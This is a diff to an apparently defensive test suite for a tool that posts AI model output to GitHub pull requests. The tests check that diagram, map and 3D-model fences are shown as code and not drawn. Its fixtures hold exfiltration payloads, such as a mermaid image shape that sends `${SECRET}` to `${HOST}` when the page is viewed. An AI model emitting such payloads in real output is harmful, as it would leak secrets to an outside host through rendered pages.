@@ -18,7 +18,7 @@ import { WORKER_COMPLETION } from '../session/publish/worker-paths.js';
 import type { AppHarness } from '../support/app-harness.js';
 import { startAppEachTest } from '../support/app-tests.js';
 import { BUILD, labelledIssue, statusBody } from '../support/builds.js';
-import { renderedEmbeds, renderMarkdown } from '../support/rendered-embeds.js';
+import { drawnFences, renderedEmbeds, renderMarkdown } from '../support/rendered-embeds.js';
 import { driveBuild, makeScript } from '../support/scripted-sessions.js';
 
 /**
@@ -56,6 +56,34 @@ const PAYLOADS = {
   'an <img> written with entities': `&lt;img src="${HOST}/entity?d=${SECRET}"&gt;`,
 } as const;
 const ALL = Object.values(PAYLOADS).join('\n\n');
+
+/**
+ * Fences GitHub draws rather than shows (issue 43, finding 5): mermaid 11.3
+ * and later draw an image shape from an address, fetched as the page is
+ * viewed; maps (`geojson`, `topojson`) and 3D models (`stl`) load what they
+ * are given too. In both fence kinds, any case, after spaces, in containers.
+ */
+const IMG_SHAPE = `A@{ img: "${HOST}/mermaid?d=${SECRET}", label: "status", pos: "t", h: 1 }`;
+const DRAWN = {
+  'a mermaid image shape': `\`\`\`mermaid\nflowchart TD\n  ${IMG_SHAPE}\n\`\`\``,
+  'a mermaid fence of tildes': `~~~mermaid\nflowchart TD\n  ${IMG_SHAPE}\n~~~`,
+  'a Mermaid fence': `\`\`\`Mermaid\nflowchart TD\n  ${IMG_SHAPE}\n\`\`\``,
+  'a MERMAID fence after three spaces': `   ~~~~ MERMAID\nflowchart TD\n  ${IMG_SHAPE}\n   ~~~~`,
+  'a mermaid fence named with a reference': `\`\`\`&#109;ermaid\nflowchart TD\n  ${IMG_SHAPE}\n\`\`\``,
+  'a mermaid fence in a block quote': `> \`\`\`mermaid\n> flowchart TD\n>   ${IMG_SHAPE}\n> \`\`\``,
+  'a geojson map': `\`\`\`geojson\n{"type":"Point","coordinates":[0,0],"d":"${SECRET}"}\n\`\`\``,
+  'a topojson map': `~~~topojson\n{"type":"Topology","d":"${SECRET}"}\n~~~`,
+  'an STL model': `\`\`\`STL\nsolid ${SECRET}\nendsolid\n\`\`\``,
+} as const;
+const ALL_DRAWN = Object.values(DRAWN).join('\n\n');
+
+/** Each drawn fence shows as code: its lines are on the page as written, in a code block. */
+function expectShownAsCode(markdown: string): void {
+  expect(drawnFences(markdown)).toEqual([]);
+  const html = renderMarkdown(markdown);
+  expect(html).toContain(`flowchart TD\n  A@{ img: &quot;${HOST}/mermaid?d=${SECRET}&quot;`);
+  expect(html).toContain(`solid ${SECRET}\nendsolid`);
+}
 
 /** Code a model writes on purpose: a suggestion to apply, with `vec![…]` and a tag in it, and a code span. */
 const CODE = [
@@ -117,6 +145,13 @@ describe('a work session’s pull request body shows no image and no HTML of the
     expect(body).toMatch(/<!-- baton:worker build=12-add-login worker=W1\.1 -->$/);
   });
 
+  it('in its summary and decisions, no fence GitHub would draw', async () => {
+    const body = await publishWork({ summary: ALL_DRAWN, decisions: Object.values(DRAWN) });
+
+    expect(drawnFences(ALL_DRAWN)).toHaveLength(Object.keys(DRAWN).length);
+    expectShownAsCode(body);
+  });
+
   it('where it is placed: in a list item, after a test line, defined in another item', async () => {
     // Alone each is code or no image; where Baton puts it, it would be one.
     const body = await publishWork({
@@ -171,6 +206,28 @@ describe('a review session’s review shows no image and no HTML of the model’
     for (const comment of posted.comments ?? []) expect(renderedEmbeds(comment.body)).toEqual([]);
     // The suggestion applies as the model wrote it: its comment is posted unchanged.
     expect(posted.comments?.at(-1)?.body).toBe(CODE);
+  });
+});
+
+describe('a review session’s review shows no fence GitHub would draw', () => {
+  const h = usePublishHarness();
+
+  it('in its body and its comments', async () => {
+    servePull(h);
+    const comments = Object.values(DRAWN).map((body, i) => ({
+      path: 'src/login.ts',
+      line: (i % 3) + 1,
+      side: 'RIGHT' as const,
+      body,
+    }));
+    h.fixture.writeResult(reviewResult(makeReview({ body: ALL_DRAWN, comments })));
+
+    expect(await h.publish(REVIEW_ENV)).toBe(PUBLISH_EXIT.published);
+
+    const posted = postedReview(h);
+    expectShownAsCode(posted.body);
+    expect(posted.comments).toHaveLength(comments.length);
+    for (const comment of posted.comments ?? []) expect(drawnFences(comment.body)).toEqual([]);
   });
 });
 
@@ -254,6 +311,8 @@ describe('the app’s status comment and final pull request show no image and no
       status: renderedEmbeds(status),
       comments: comments.flatMap((comment) => renderedEmbeds(comment.body)),
     }).toEqual({ plan: [], final: [], status: [], comments: [] });
+    // Baton's own plan graph, built from escaped ids, still draws.
+    expect(drawnFences(planned)).toEqual(['mermaid']);
     expect(renderMarkdown(final?.body ?? '')).toContain('Build status: ![status]');
   });
 });
